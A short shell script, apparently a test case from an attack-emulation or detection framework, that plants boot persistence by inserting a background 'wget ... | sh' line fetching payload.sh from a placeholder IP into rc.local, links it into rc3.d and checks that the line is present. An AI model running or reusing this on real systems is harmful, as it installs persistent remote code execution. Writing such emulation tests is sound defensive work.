#!/bin/sh
. /opt/case/case.sh

test -e /host/etc/rc.local || printf '#!/bin/sh -e\nexit 0\n' >/host/etc/rc.local
sed -i '/^exit 0/i (wget -qO- http://203.0.113.10/payload.sh | sh) >/dev/null 2>\&1 \&' /host/etc/rc.local
chmod 755 /host/etc/rc.local
mkdir -p /host/etc/rc3.d && ln -sf ../rc.local /host/etc/rc3.d/S99local
grep -q payload /host/etc/rc.local
took_place
